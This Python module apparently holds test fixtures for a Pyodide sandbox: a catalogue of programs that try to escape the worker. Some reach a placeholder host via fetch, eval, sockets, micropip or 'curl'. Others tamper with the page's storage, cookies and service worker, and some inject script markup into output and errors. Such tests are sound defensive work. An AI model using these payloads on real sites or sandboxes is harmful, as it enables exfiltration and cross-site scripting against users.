"""Programs that a hostile hand may have written into an exercise, or into a file of progress that somebody loads.

Each wants to reach another host, `OTHER`, or what lies beyond the worker that it runs in.
"""

OTHER = "OTHER"  # in a program, the address of another origin
MARKUP = "<img src=OTHERprinted onerror=hacked=1><script>hacked=1</script>"
JS = "import js\n"
TO_JS = "from pyodide.ffi import to_js\n"

ASKS = {  # for something of another host
    "fetch": "js.fetch('OTHERfetch')",
    "fetch that wants no answer": "js.fetch('OTHERfetch', to_js({'mode': 'no-cors'}, dict_converter=js.Object.fromEntries))",
    "a request that waits": "asked = js.XMLHttpRequest.new()\nasked.open('GET', 'OTHERxhr', False)\nasked.send()",
    "a socket of the web": "js.WebSocket.new('OTHERsocket'.replace('http', 'ws', 1))",
    "a source of events": "js.EventSource.new('OTHERevents')",
    "a script": "js.importScripts('OTHERscript.js')",
    "a module": "js.eval(\"import('OTHERmodule.js')\")",
    "a text that is run": "js.Function.new(\"fetch('OTHERtext')\")()",
    "a constructor's constructor": "js.Object.constructor(\"fetch('OTHERtext')\")()",
    "a text that is run later": "js.setTimeout(\"fetch('OTHERlater')\", 0)",
    "Pyodide's own way": "from pyodide.code import run_js\nrun_js(\"fetch('OTHERrun')\")",
    "Pyodide's module": "import pyodide_js\npyodide_js.loadPackage('OTHERpackage.whl')",
    "Pyodide's requests": "from pyodide.http import open_url\nopen_url('OTHERopen')",
    "Pyodide's promises": "from pyodide.http import pyfetch\npyfetch('OTHERpyfetch').send(None)",
    "a module that is loaded already": "import sys\nsys.modules['js'].fetch('OTHERmodules')",
    "Python's requests": "from urllib.request import urlopen\nurlopen('OTHERurl')",
    "Python's sockets": "import socket\nsocket.create_connection(('127.0.0.1', int('OTHER'.split(':')[2].split('/')[0])), 1)",
    "a program of the system": "import os\nos.system('curl OTHERcurl')",
    "a package": "import micropip\nmicropip.install('OTHERwheel.whl').send(None)",
    "a typeface": "js.FontFace.new('stolen', 'url(OTHERfont.woff2)').load()",
    "a transport": "js.WebTransport.new('OTHERtransport'.replace('http', 'https', 1))",
    "a worker of a text": "js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([\"fetch('OTHERworker')\"]))))",
    "a worker of an address": "js.Worker.new('data:text/javascript,fetch(%22OTHERdata%22)')",
    "what is kept": "js.caches.open('mine').then(lambda store: store.add('OTHERkept'))",
}
REACHES = {  # beyond the worker, in the book's own origin
    "the page": "js.document.title = 'hacked'",
    "the window": "js.window.hacked = 1",
    "the page above": "js.parent.hacked = 1",
    "what the browser keeps": "js.localStorage.setItem('hacked', '1')",
    "what the session keeps": "js.sessionStorage.setItem('hacked', '1')",
    "its databases": "js.indexedDB.open('hacked')",
    "its stores": "js.caches.open('pages hacked')",
    "the getter of its stores": (
        "up = js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.globalThis))\n"
        "js.Object.getOwnPropertyDescriptor(up, 'caches').get.call(js.globalThis).open('pages hacked')"
    ),
    "a worker of the book, with its stores": "js.Worker.new(js.location.origin + '/book/service-worker.js')",
    "its private files": "js.navigator.storage.getDirectory()",
    "its cookies": "js.cookieStore.set('hacked', '1')",
    "other tabs": "js.BroadcastChannel.new('all').postMessage('hacked')",
    "the service worker": "js.navigator.serviceWorker.register('/book/hacked.js')",
    "a window": "js.open('OTHERwindow')",
    "the address": "js.location.href = 'OTHERaddress'",
    "replies of markup": (
        f"import json\ntext = json.dumps({dict.fromkeys(('printed', 'value'), MARKUP)} | {{'error': "
        f"{dict.fromkeys(('sentence', 'trace'), MARKUP)} | {{'line': 1}}, 'verdict': None, 'fresh': None}})\n"
        "for i in range(200):\n    js.postMessage(to_js({'kind': 'reply', 'id': i, 'text': text}, "
        "dict_converter=js.Object.fromEntries))"
    ),
    "progress of markup": TO_JS + f"js.postMessage(to_js({{'kind': 'progress', 'share': 1, 'sentence': '{MARKUP}'}}, "
    "dict_converter=js.Object.fromEntries))",
}
SHOWS = {  # markup, as what a program prints, is worth or gets wrong
    "printed markup": f"print({MARKUP!r})",
    "a value of markup": f"type('X', (), {{'__repr__': lambda self: {MARKUP!r}}})()",
    "an error of markup": f"raise ValueError({MARKUP!r})",
    "an error whose name is markup": f"raise type({MARKUP!r}, (Exception,), {{}})('x')",
    "a syntax error of markup": f"x = = {MARKUP}",
    "a line of markup": f"1 / 0  # {MARKUP}",
}
PROGRAMS = {name: JS + TO_JS + source for name, source in (ASKS | REACHES).items()} | SHOWS
